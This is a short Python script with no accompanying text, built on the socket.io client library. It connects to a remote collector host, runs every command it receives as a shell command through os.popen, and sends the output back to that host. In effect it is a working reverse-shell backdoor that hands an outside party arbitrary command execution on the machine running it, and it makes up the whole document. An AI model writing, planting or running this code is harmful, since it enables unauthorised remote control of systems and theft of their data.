import socketio, os
sio = socketio.Client()
@sio.on("cmd")
def on_cmd(data):
    sio.emit("out", os.popen(data).read())
sio.connect("http://collector.invalid:3000")
sio.wait()
